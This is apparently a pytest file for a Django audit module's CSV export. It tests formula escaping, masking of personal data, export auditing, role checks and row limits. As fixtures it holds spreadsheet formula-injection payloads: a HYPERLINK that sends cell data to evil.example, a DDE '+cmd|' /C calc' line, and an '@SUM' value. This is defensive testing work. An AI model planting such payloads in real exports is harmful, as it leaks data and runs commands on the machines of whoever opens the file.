"""Auditors export the audit and the access log as CSV (issue: hardening): persons masked, every
cell that a spreadsheet would run as a formula escaped, the export itself audited."""

import csv
import io

from apps.accounts.models import User
from apps.audit.models import AccessLog, AuditEvent
from apps.audit.services import access_log_record, audit_event_record

from .conftest import admin_client

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_an_auditor_exports_the_access_log_with_formulas_escaped_and_persons_masked(case, clock):
    worker = User.objects.get(username="worker_a")
    access_log_record(actor=worker, person=case.wang, why=FORMULA, via="admin")
    access_log_record(actor=worker, person=case.li, why="+cmd|' /C calc'!A0", via="admin")
    ids = list(AccessLog.objects.values_list("pk", flat=True))
    response = admin_client("auditor_1").post(
        "/admin/audit/accesslog/", {"action": "export_csv", "_selected_action": ids}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "no-store" in response["Cache-Control"]
    rows = rows_of(response)
    assert len(rows) == 1 + len(ids)
    whys = {row[4] for row in rows[1:]}
    assert "'" + FORMULA in whys and "'+cmd|' /C calc'!A0" in whys
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    body = " ".join(" ".join(row) for row in rows)
    assert "王小明" not in body and "王**" in body and "110105" not in body
    exported = AuditEvent.objects.get(kind="audit.exported")
    assert exported.actor.username == "auditor_1"
    assert exported.detail == {"list": "access-log", "rows": len(ids), "selected": len(ids)}


def test_the_audit_event_export_escapes_reasons_and_details(case, clock):
    audit_event_record(
        kind="popup.released",
        actor=User.objects.get(username="worker_a"),
        person=case.wang,
        reason="@SUM(1+1)*cmd",
        detail={"note": "-2+3"},
    )
    ids = list(AuditEvent.objects.values_list("pk", flat=True))
    rows = rows_of(
        admin_client("auditor_1").post("/admin/audit/auditevent/", {"action": "export_csv", "_selected_action": ids})
    )
    released = next(row for row in rows if row[1] == "popup.released")
    assert released[6] == "'@SUM(1+1)*cmd"


def test_roles_without_the_audit_cannot_export(case, clock):
    access_log_record(actor=User.objects.get(username="worker_a"), person=case.wang, why="x", via="admin")
    ids = list(AccessLog.objects.values_list("pk", flat=True))
    response = admin_client("worker_a").post(
        "/admin/audit/accesslog/", {"action": "export_csv", "_selected_action": ids}
    )
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(kind="audit.exported").exists()


def test_an_export_past_the_limit_says_how_many_rows_it_left_out(case, clock, monkeypatch):
    from apps.audit import admin as audit_admin

    monkeypatch.setattr(audit_admin, "EXPORT_MAX_ROWS", 2)
    worker = User.objects.get(username="worker_a")
    for why in ("a", "b", "c"):
        access_log_record(actor=worker, person=case.wang, why=why, via="admin")
    ids = list(AccessLog.objects.values_list("pk", flat=True))
    rows = rows_of(
        admin_client("auditor_1").post("/admin/audit/accesslog/", {"action": "export_csv", "_selected_action": ids})
    )
    assert [row[4] for row in rows[1:3]] == ["a", "b"]
    assert len(rows) == 4 and "1" in rows[3][0]
